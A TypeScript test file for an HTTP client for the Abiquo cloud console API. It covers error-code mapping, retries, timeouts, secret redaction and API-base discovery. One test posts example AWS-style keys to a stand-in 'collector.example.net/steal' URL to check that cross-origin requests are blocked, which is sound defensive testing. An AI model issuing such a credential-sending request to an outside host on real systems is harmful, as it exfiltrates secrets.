import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import {discoverApiBase} from './api-base.ts';
import {createHttp} from './http.ts';
import type {AbiquoHttp} from './http.ts';

const API = 'https://console.example.com/api';
const op = {needs: ['ENTERPRISE_MANAGE_PROPERTIES', 'ENTERPRISE_ADMINISTER_ALL']};

/** A fetch answering every request with one recorded-style response. */
function answering(status: number, body: string, contentType = 'application/vnd.abiquo.errors+json'): typeof fetch {
  return async () => new Response(body, {status, headers: {'Content-Type': contentType}});
}

/** ky hands fetch a Request; its signal is the one that aborts. */
const hanging: typeof fetch = (input, init) =>
  new Promise((_resolve, reject) => {
    const signal = init?.signal ?? (input as Request).signal;
    if (signal?.aborted) reject(signal.reason);
    signal?.addEventListener('abort', () => reject(signal.reason));
  });

const apiError = (code: string, message: string) => JSON.stringify({collection: [{code, message}]});

async function getWith(fetchImpl: typeof fetch, timeoutMs = 2000) {
  const http: AbiquoHttp = createHttp({apiBase: API, fetch: fetchImpl, timeoutMs});
  return http.get(`${API}/admin/enterprises/42/properties`, 'enterpriseproperties', op, new AbortController().signal);
}

describe('Abiquo errors become codes the tab can explain', () => {
  it('a 401 with the servlet HTML page reads as an expired session', async () => {
    const result = await getWith(answering(401, '<html><body><h1>HTTP Status 401</h1></body></html>', 'text/html'));
    assert.deepEqual(result, {ok: false, code: 'ABIQUO_SESSION_EXPIRED', facts: {status: 401, apiCode: 'HTTP 401', apiMessage: ''}});
  });

  it('never follows a link to another origin: no request leaves, and the tab says why', async () => {
    let called = false;
    const http = createHttp({apiBase: API, fetch: async () => ((called = true), new Response('{}'))});
    const body = {access: 'AKIAIOSFODNN7EXAMPLE', key: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'};
    const sent = await http.send('POST', 'https://collector.example.net/steal', 'pricingcredentials', body, op, new AbortController().signal);
    assert.deepEqual(sent, {
      ok: false,
      code: 'ABIQUO_API_CROSS_ORIGIN',
      facts: {endpoint: 'https://collector.example.net', origin: 'https://console.example.com'},
    });
    assert.equal(called, false);
  });

  it('a 403 names the privilege the operation needs', async () => {
    const result = await getWith(answering(403, apiError('GEN-4', 'Not enough permissions to perform this action')));
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.code, 'ABIQUO_FORBIDDEN');
    assert.equal(
      !result.ok && result.facts?.privilege,
      '“Manage enterprise properties” (ENTERPRISE_MANAGE_PROPERTIES), “Allow user to switch enterprise” (ENTERPRISE_ADMINISTER_ALL)',
    );
    assert.equal(!result.ok && result.facts?.apiCode, 'GEN-4');
  });

  for (const [status, code] of [
    [404, 'ABIQUO_NOT_FOUND'],
    [406, 'ABIQUO_MEDIA_TYPE'],
    [415, 'ABIQUO_MEDIA_TYPE'],
    [400, 'ABIQUO_INVALID'],
    [500, 'ABIQUO_SERVER'],
  ] as const) {
    it(`an HTTP ${status} is ${code}`, async () => {
      const result = await getWith(answering(status, apiError(`${status}-X`, 'whatever')));
      assert.equal(!result.ok && result.code, code);
      assert.equal(!result.ok && result.facts?.status, status);
    });
  }

  it('a 503 is retried for a read and reported as a server failure when it persists', async () => {
    let calls = 0;
    const result = await getWith(async () => {
      calls += 1;
      return new Response(apiError('503-SERVICE-UNAVAILABLE', 'down'), {status: 503});
    });
    assert.equal(!result.ok && result.code, 'ABIQUO_SERVER');
    assert.equal(calls, 3);
  });

  it('a write is never retried', async () => {
    let calls = 0;
    const http = createHttp({
      apiBase: API,
      fetch: async () => {
        calls += 1;
        return new Response('', {status: 503});
      },
    });
    const result = await http.send('PUT', `${API}/admin/enterprises/42/properties`, 'enterpriseproperties', {properties: {}}, op, new AbortController().signal);
    assert.equal(!result.ok && result.code, 'ABIQUO_SERVER');
    assert.equal(calls, 1);
  });

  it('a stale write (409-CONFLICT-StaleObject) is a conflict; other 409 business rules keep the API message', async () => {
    const stale = await getWith(answering(409, apiError('409-CONFLICT-StaleObject', 'Another request has updated this entity')));
    assert.equal(!stale.ok && stale.code, 'ABIQUO_CONFLICT');
    const duplicate = await getWith(answering(409, apiError('ENTERPRISE-4', 'Duplicate name for an enterprise')));
    assert.equal(!duplicate.ok && duplicate.code, 'ABIQUO_INVALID');
    assert.equal(!duplicate.ok && duplicate.facts?.apiMessage, 'Duplicate name for an enterprise');
  });

  it('credential business codes get their own messages', async () => {
    for (const [apiCode, code] of [
      ['PUBLIC-3', 'ABIQUO_PROVIDER_HAS_CREDENTIALS'],
      ['PUBLIC-14', 'ABIQUO_CREDENTIALS_IN_USE'],
      ['PRICING-CREDS-2', 'ABIQUO_CREDENTIALS_IN_USE'],
    ] as const) {
      const result = await getWith(answering(409, apiError(apiCode, 'in use')));
      assert.equal(!result.ok && result.code, code, apiCode);
    }
  });

  it('an API message quoting a secret is redacted before it reaches the facts', async () => {
    const result = await getWith(answering(400, apiError('PUBLIC-11', 'Bad key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY for AKIAPRICINGUSEXAMPLE')));
    const facts = JSON.stringify(!result.ok && result.facts);
    assert.doesNotMatch(facts, /wJalrXUtnFEMI|AKIAPRICINGUSEXAMPLE/);
  });

  it('an API that does not answer in time is a timeout naming the seconds waited', async () => {
    const result = await getWith(hanging, 50);
    assert.deepEqual(result, {ok: false, code: 'ABIQUO_TIMEOUT', facts: {seconds: 1}});
  });

  it('an unreachable API is a network failure, its reason redacted', async () => {
    const result = await getWith(async () => {
      throw new TypeError('fetch failed: proxy refused https://abiquo.example.com/api?key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY');
    });
    assert.equal(!result.ok && result.code, 'ABIQUO_NETWORK');
    const reason = String(!result.ok && result.facts?.reason);
    assert.match(reason, /^fetch failed: proxy refused/);
    assert.doesNotMatch(reason, /wJalrXUtnFEMI/);
  });

  it('a 200 that is not JSON (a proxy login page) is an unexpected response, not a crash', async () => {
    const result = await getWith(answering(200, '<html>login</html>', 'text/html'));
    assert.equal(!result.ok && result.code, 'ABIQUO_UNEXPECTED_RESPONSE');
  });

  it('a cancelled request rejects instead of showing an error', async () => {
    const controller = new AbortController();
    const http = createHttp({apiBase: API, fetch: hanging});
    const pending = http.get(`${API}/login`, 'user', op, controller.signal);
    controller.abort();
    await assert.rejects(pending);
  });

  it('requests carry the vendor media type without a version, the console cookie and no cached copy', async () => {
    let seen: Request | undefined;
    await getWith(async (input, init) => {
      seen = new Request(input, init);
      return new Response('{"properties":{}}', {status: 200});
    });
    assert.equal(seen?.headers.get('accept'), 'application/vnd.abiquo.enterpriseproperties+json');
    assert.equal(seen?.credentials, 'include');
    assert.equal(seen?.cache, 'no-store');
  });
});

describe('The API base is discovered like the console does', () => {
  const files =
    (map: Record<string, unknown>): typeof fetch =>
    async (input) => {
      const url = String(input instanceof Request ? input.url : input);
      const path = new URL(url).pathname;
      return path in map ? new Response(JSON.stringify(map[path]), {status: 200}) : new Response('not found', {status: 404});
    };

  it('uses config.endpoint of client-config-custom.json', async () => {
    const result = await discoverApiBase(
      'https://console.example.com/ui/#/enterprises',
      files({'/ui/config/client-config-custom.json': {'config.endpoint': 'https://console.example.com/abiquo/api/'}}),
    );
    assert.deepEqual(result, {ok: true, value: 'https://console.example.com/abiquo/api'});
  });

  it('falls back to the default config file, then to <origin>/api', async () => {
    const fromDefault = await discoverApiBase('https://console.example.com', files({'/ui/config/client-config-default.json': {'config.endpoint': '/api2'}}));
    assert.deepEqual(fromDefault, {ok: true, value: 'https://console.example.com/api2'});
    const none = await discoverApiBase('https://console.example.com', files({}));
    assert.deepEqual(none, {ok: true, value: 'https://console.example.com/api'});
  });

  it('reports an endpoint on another origin, where the session cookie would not flow', async () => {
    const result = await discoverApiBase(
      'https://console.example.com',
      files({'/ui/config/client-config-custom.json': {'config.endpoint': 'https://api.example.net/api'}}),
    );
    assert.deepEqual(result, {ok: false, code: 'ABIQUO_API_CROSS_ORIGIN', facts: {endpoint: 'https://api.example.net', origin: 'https://console.example.com'}});
  });
});
